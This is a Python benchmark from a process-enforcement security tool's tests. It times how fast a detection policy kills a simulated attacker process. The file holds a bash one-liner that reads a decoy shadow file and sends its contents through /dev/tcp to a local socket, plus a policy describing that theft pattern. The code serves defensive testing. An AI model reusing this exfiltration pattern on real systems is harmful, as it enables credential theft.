"""From the last system call of a sequence to the process's death: through the enforcer, and by the direct kill.

    python -m tests.bench.bench_kill --json kill.json

Real attackers, killed on the real kernel. Both ends are kernel times (CLOCK_BOOTTIME): the last step's event as the alert has
it, and the exit as a second, independent sensor saw it. The daemons run as an installation's do. The two ways take turns in
blocks, and beside them a chain of three idle interpreters that only hand a line on and kill: it tells what waking as many costs
on this host at this moment, which changes from hour to hour on one that is shared. Needs root.
"""

from __future__ import annotations

import signal
import socket
import statistics
import subprocess
import tempfile
from pathlib import Path
from typing import Any

from tests.bench import command
from tests.bench.relay import Relay
from tests.bench.settled import Settled
from tests.support.arena import eventually
from tests.support.live import Live

BLOCKS = 4
ATTACKS = 50  # in each block, for each way
_POLICY = """
policy "theft" key process within 1m response enforce {
    open    { path = "DECOY" exe = "ATTACKER" }
    connect { family = AF_INET }
    write   { content contains "root:" }
    on match { alert; kill }
}
"""
_SCRIPT = 'read -r s < decoy/shadow; exec 3<> "/dev/tcp/127.0.0.1/$1"; printf "%s" "$s" >&3; read -r s'


def run() -> dict[str, Any]:
    """Returns for each way the latencies' p50, p99 and maximum in milliseconds, and how many attackers it missed."""
    latencies: dict[str, list[float]] = {"enforcer": [], "direct": []}
    missed, bare = dict.fromkeys(latencies, 0), list[float]()
    settings = {
        "enforcer": {"kills_per_minute": 10_000, "kills_per_minute_per_policy": 10_000},
        "policyd": {"order_timeout_ms": 100},
    }
    with (
        tempfile.TemporaryDirectory(prefix="execray-bench-") as folder,
        socket.create_server(("127.0.0.1", 0), backlog=512) as server,
        Settled(Path(folder), _POLICY, **settings) as arena,
        Live([]) as witness,
        Relay() as relay,
    ):
        _attack(arena, witness, server)  # the first one warms caches
        for _ in range(BLOCKS):
            for way, values in latencies.items():
                _set_way(arena, way)
                for _ in range(ATTACKS):
                    found = _attack(arena, witness, server)
                    if found is None:
                        missed[way] += 1
                    else:
                        values.append(found)
            bare += [relay.kill(witness) for _ in range(ATTACKS)]
    told = {way: {**_spread(values), "missed": missed[way]} for way, values in latencies.items()}
    return {**told, "bare chain": {**_spread(bare), "missed": 0}}


def _set_way(arena: Settled, way: str) -> None:
    if way == "enforcer" and not arena.stack.running("enforcer"):
        arena.stack.start("enforcer")
        arena.as_unit("enforcer")
        eventually(lambda: arena.status("policyd")["enforcer"]["connected"])
    elif way == "direct":
        arena.stack.stop("enforcer", signal.SIGKILL)
        eventually(lambda: not arena.status("policyd")["enforcer"]["connected"])


def _attack(arena: Settled, witness: Live, server: socket.socket) -> float | None:
    """Runs one attacker; returns milliseconds from its last step to its exit, None when it lived."""
    command = [str(arena.attacker), "-c", _SCRIPT, "attack", str(server.getsockname()[1])]
    with subprocess.Popen(command, cwd=arena.dir, stdin=subprocess.PIPE) as child:
        connection, _ = server.accept()
        with connection:
            # blocked, so that the bench takes no processor from those it measures; the witness's ring holds what it needs
            status = child.wait(10)
            events = witness.drain()
        if status != -signal.SIGKILL:
            return None
    death = next(e.time_ns for e in events if e.type.name == "exit" and e.get("pid") == child.pid)
    alert = arena.await_alert(lambda a: a.get("process", {}).get("pid") == child.pid)
    last_step: int = alert["execray"]["time_ns"]
    return (death - last_step) / 1e6


def _spread(values: list[float]) -> dict[str, float]:
    ordered = sorted(values)
    return {
        "attacks": len(ordered),
        "p50_ms": round(statistics.median(ordered), 3),
        "p99_ms": round(ordered[max(0, int(len(ordered) * 0.99) - 1)], 3),
        "max_ms": round(ordered[-1], 3),
    }


def table(result: dict[str, Any]) -> str:
    """Returns the result for people."""
    lines = ["from the last step to the death      attacks    p50 ms    p99 ms    max ms  missed"]
    lines += [
        f"{way:36} {r['attacks']:7} {r['p50_ms']:9.2f} {r['p99_ms']:9.2f} {r['max_ms']:9.2f} {r['missed']:7}"
        for way, r in result.items()
    ]
    return "\n".join(lines)


if __name__ == "__main__":
    command.main(__doc__, run, table)
